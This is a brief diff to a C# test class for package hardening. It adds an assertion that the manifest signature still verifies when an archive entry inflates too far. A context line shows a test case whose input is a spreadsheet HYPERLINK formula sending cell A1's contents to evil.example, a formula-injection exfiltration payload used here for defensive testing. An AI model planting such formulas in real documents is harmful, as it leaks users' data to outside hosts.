@@ -130,6 +130,7 @@ public sealed class PackHardeningTests
 
         Assert.That(result.IsValid, Is.False);
         Assert.That(result.Problems.Any(p => p.Kind == PackProblemKind.Malformed && p.Detail.Contains("inflates past", StringComparison.Ordinal)), Is.True, string.Join("; ", result.Problems));
+        Assert.That(result.Problems.Where(p => p.Entry is "manifest.sig" or "manifest.json"), Is.Empty, "the signature is still checked, and verifies");
     }
 
     [TestCase("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")]
